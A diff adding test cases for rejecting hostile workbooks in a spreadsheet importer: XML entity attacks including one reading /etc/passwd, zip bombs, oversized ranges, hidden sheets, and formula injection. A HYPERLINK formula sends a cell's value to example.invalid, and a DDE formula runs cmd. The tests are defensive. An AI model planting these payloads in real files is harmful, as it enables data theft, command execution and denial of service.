@@ -574,6 +574,82 @@ CSV_CASES: list[Case] = [
 CASES += CSV_CASES
 
 
+# -- hostile, damaged and oversized workbooks (issue 10) ----------------------------------------
+# Built by editing the template's zip archive directly (tests/_hostile_workbooks.py); each fails
+# before openpyxl loads it, or as one problem naming what openpyxl could not read.
+
+import _hostile_workbooks as hostile  # noqa: E402
+
+
+def built(edit: Callable[[bytes], bytes], name: str = "skaring.xlsx") -> Callable[[Path], Path]:
+    """The template workbook's bytes changed by `edit` (built when the case runs)."""
+    def write(folder: Path) -> Path:
+        path = folder / name
+        path.write_bytes(edit(_template_bytes()))
+        return path
+    write.writes_file = True  # type: ignore[attr-defined]
+    return write
+
+
+def sparse(size: int, name: str) -> Callable[[Path], Path]:
+    """A file of `size` zero bytes that takes no disk space."""
+    def write(folder: Path) -> Path:
+        path = folder / name
+        with path.open("wb") as f:
+            f.truncate(size)
+        return path
+    write.writes_file = True  # type: ignore[attr-defined]
+    return write
+
+
+HOSTILE_XLSX_CASES: list[Case] = [
+    Case("xlsx: truncated sheet XML", "spreadsheet: damaged", built(hostile.truncated()),
+         "lonn", ("not well-formed XML", "cut short")),
+    Case("xlsx: billion laughs (entity expansion)", "spreadsheet: damaged",
+         built(hostile.billion_laughs()), "lonn",
+         ("document type declaration", "without expanding")),
+    Case("xlsx: external entity reading /etc/passwd", "spreadsheet: damaged",
+         built(hostile.external_entity()), "lonn", ("document type declaration",)),
+    Case("xlsx: malformed styles.xml", "spreadsheet: damaged",
+         built(hostile.styles(hostile.MALFORMED_STYLES)), "", ("styles.xml", "not well-formed")),
+    Case("xlsx: nonsense values in styles.xml", "spreadsheet: damaged",
+         built(hostile.styles(hostile.NONSENSE_STYLES)), "",
+         ("not a readable .xlsx workbook", "damaged")),
+    Case("xlsx: zip bomb", "spreadsheet: too large", built(hostile.zip_bomb(400)), "",
+         ("unpacks to 400 MB", "at most 50 MB")),
+    Case("xlsx: zip bomb declaring a small size", "spreadsheet: too large",
+         built(hostile.zip_bomb(400, lie=True)), "", ("cannot be unpacked", "Bad CRC")),
+    Case("xlsx: one cell at XFD1048576", "spreadsheet: too large",
+         built(hostile.cell_at("XFD1048576")), "lonn", ("row 1 048 576", "at most 10 000 rows")),
+    Case("xlsx: declared range A1:XFD1048576", "spreadsheet: too large",
+         built(hostile.cell_at("J300", dimension="A1:XFD1048576")), "lonn",
+         ("used range A1:XFD1048576", "200 columns")),
+    Case("xlsx: 20 000 rows", "spreadsheet: too large", built(hostile.many_rows(20_000)),
+         "lonn", ("row 10 001",)),
+    Case("xlsx: a far cell spanning 2 million cells", "spreadsheet: too large",
+         built(hostile.cell_at("GR10000", sheet="vekter_gains")), "vekter_gains",
+         ("more than 250 000 cells",)),
+    Case("xlsx: file larger than 50 MB", "spreadsheet: too large",
+         sparse(50 * 2**20 + 1, "skaring.xlsx"), "", ("larger than the limit of 50.0 MB",)),
+    Case("csv: file larger than 10 MB", "spreadsheet: too large",
+         sparse(10 * 2**20 + 1, "lonn_strategy.csv"), "", ("larger than the limit of 10.0 MB",),
+         route="csv"),
+    Case("xlsx: hidden service sheet", "spreadsheet: hidden sheet",
+         built(hostile.sheet_state("lonn", "hidden")), "lonn", ("'lonn' is hidden", "unhide")),
+    Case("xlsx: veryHidden meta sheet", "spreadsheet: hidden sheet",
+         built(hostile.sheet_state("meta", "veryHidden")), "meta", ("'meta' is veryHidden",)),
+    Case("xlsx: HYPERLINK formula as a rationale", "spreadsheet: formula injection",
+         workbook(set_cells("lonn", G5='=HYPERLINK("https://example.invalid/?x="&D5,"info")')),
+         "lonn!G5", ("a formula", "HYPERLINK", "not a formula")),
+    Case("xlsx: formula as the title", "spreadsheet: formula injection",
+         workbook(set_cells("meta", C5="=1+1")), "meta!C5", ("a formula (=1+1)",)),
+    Case("xlsx: DDE formula in a weight cell", "spreadsheet: formula injection",
+         workbook(set_cells("vekter_strategy", C12="=cmd|' /C calc'!A0")), "vekter_strategy!C12",
+         ("a formula",)),
+]
+CASES += HOSTILE_XLSX_CASES
+
+
 # -- the checks ---------------------------------------------------------------------------------
 
 
